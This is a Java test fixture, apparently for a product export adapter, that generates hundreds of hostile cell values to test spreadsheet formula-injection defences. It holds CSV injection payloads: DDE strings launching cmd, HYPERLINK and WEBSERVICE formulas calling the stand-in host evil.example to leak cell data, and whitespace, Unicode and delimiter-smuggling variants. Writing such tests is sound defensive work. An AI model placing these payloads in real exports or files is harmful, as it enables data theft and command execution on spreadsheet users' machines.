package app.productdesk.adapter.exchange;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/// Names that a spreadsheet might take for something else than a name.
final class Sharp {

    /// What begins a formula, in every width and disguise.
    private static final List<String> BEGINNINGS =
            List.of("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\ufe62");

    private static final List<String> DISGUISES =
            List.of(
                    "", " ", "   ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff",
                    "\u3000", "'", "\"", "''");

    /// What may end a cell on some computer, inside a name.
    private static final List<String> ENDS =
            List.of("x;", "x,", "x\t", "x\n", "x\r\n", "x; ", "x;\"", "x\t\u00a0", "x;'", ";;");

    private static final List<String> WHOLE =
            List.of(
                    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                    "=cmd|' /C calc'!A0",
                    "=DDE(\"cmd\";\"/C calc\";\"x\")",
                    "@SUM(1+1)*cmd|' /C calc'!A0",
                    "=WEBSERVICE(\"http://evil.example/\")",
                    "=IMPORTXML(\"http://evil.example\",\"//a\")",
                    "{=SUM(A1:A2)}",
                    "=1+1\",\"=2+2",
                    "\";=1+1;\"",
                    ",=1+1",
                    "\n=1+1",
                    "a\n=1+1",
                    "a\r\n=1+1\r\nb",
                    "_x003D_1+1",
                    "_x000A_=1",
                    "x_x0041_y_x005F_z",
                    "_x005F_x003D_1",
                    "<b>bold</b>",
                    "]]><c><f>1+1</f></c>",
                    "&lt;f&gt;1+1&lt;/f&gt;",
                    "&#61;1+1",
                    "TRUE",
                    "1E5",
                    "0123",
                    "2026-11-23",
                    "1/2",
                    "#REF!",
                    "'",
                    "''",
                    "\"",
                    "\"\"",
                    "José Ñúñez-Ćosić",
                    "\u202e=1+1",
                    "日本語 株式会社",
                    "\ud83d\ude80=1",
                    "e\u0301",
                    " ",
                    "\t",
                    "-",
                    "=");

    private Sharp() {}

    /// At least 250 of them, each once.
    static Stream<String> names() {
        List<String> names = new ArrayList<>(WHOLE);
        for (String disguise : DISGUISES) {
            for (String beginning : BEGINNINGS) {
                names.add(disguise + beginning + "1+1");
            }
        }
        for (String end : ENDS) {
            for (String beginning : BEGINNINGS) {
                names.add(end + beginning + "cmd|' /C calc'!A0;");
            }
        }
        return names.stream().distinct();
    }
}
